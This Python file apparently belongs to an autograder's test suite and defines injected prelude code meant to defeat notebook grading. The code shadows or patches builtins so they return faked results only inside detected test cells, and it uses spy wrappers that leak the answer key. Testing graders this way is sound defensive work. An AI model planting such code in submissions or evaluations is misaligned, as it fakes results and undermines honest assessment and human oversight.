"""Attacks on the grading protocol itself, for every assignment.

Each attack is code a submission puts at the top of its first answer cell.
It cheats or spies only where the old protocol computed with the key: at the
top level of a test cell. The learner's own code (answer cells, functions) is
untouched, so the attack's answers are exactly those of the same submission
without it, and any difference in score is the grader's fault.
"""

PRELUDE = '''
import builtins as _bi
import linecache as _lc
import sys as _sys

_REAL = {n: getattr(_bi, n) for n in ("sorted", "set", "len", "all", "any", "print")}


def _in_test(depth=2):
    """Is the caller top-level code of a test cell?"""
    try:
        frame = _sys._getframe(depth)
    except ValueError:
        return False
    name = frame.f_code.co_filename
    if frame.f_code.co_name != "<module>" or not ("ipykernel_" in name
                                                  or name.startswith("<")):
        return False
    source = "".join(_lc.getlines(name))
    # (spelled in pieces, so this cell itself does not look like a test cell)
    return _bi.any(part in source for part in ("pass" + "ed(", "ver" + "ify(",
                                               "_cloudsec" + "_grading"))
'''

_CHEATS = '''
def _sorted(*args, **kwargs):
    return [] if _in_test() else _REAL["sorted"](*args, **kwargs)


def _len(value):
    return 0 if _in_test() else _REAL["len"](value)


def _all(values):
    return True if _in_test() else _REAL["all"](values)


def _any(values):
    return False if _in_test() else _REAL["any"](values)


class _LyingSet(_REAL["set"]):
    """A set whose difference is empty inside a test cell."""

    def __sub__(self, other):
        if _in_test():
            return _REAL["set"]()
        return _REAL["set"].__sub__(self, other)

    def __eq__(self, other):
        return True if _in_test() else _REAL["set"].__eq__(self, other)

    __hash__ = None
'''

_SPIES = '''
def _spy(name):
    real = _REAL[name]

    def wrapper(*args, **kwargs):
        if _in_test():
            _REAL["print"]("SPY", name, _bi.repr(args), _bi.repr(kwargs))
        return real(*args, **kwargs)
    return wrapper
'''

ATTACKS = {
    # names in the notebook's namespace shadow the builtins
    "shadow": PRELUDE + _CHEATS + '''
sorted, len, all, any, set = _sorted, _len, _all, _any, _LyingSet
''',
    # the builtins module itself is patched, for every module in the kernel
    "patch-builtins": PRELUDE + _CHEATS + '''
_bi.sorted, _bi.len, _bi.all, _bi.any = _sorted, _len, _all, _any
''',
    # wrappers that print their arguments, to read the key from the feedback
    "spy": PRELUDE + _SPIES + '''
sorted, len, all, any, set = (_spy(n) for n in ("sorted", "len", "all", "any", "set"))
_bi.sorted, _bi.len, _bi.all, _bi.any = (_spy(n) for n in ("sorted", "len", "all",
                                                             "any"))
''',
}

# per assignment: a sample with mistakes whose answers every attack keeps
BASES = {
    "ps01": "count_not_weigh", "ps02": "count_not_weigh",
    "ps03": "provider_patches_iaas", "ps04": "virtualization_is_cloud",
    "ps05": "wildcards_only_exact_names", "ps06": "everything_dedicated",
    "ps07": "provider_patches_iaas", "ps08": "soc2_covers_my_configuration",
}
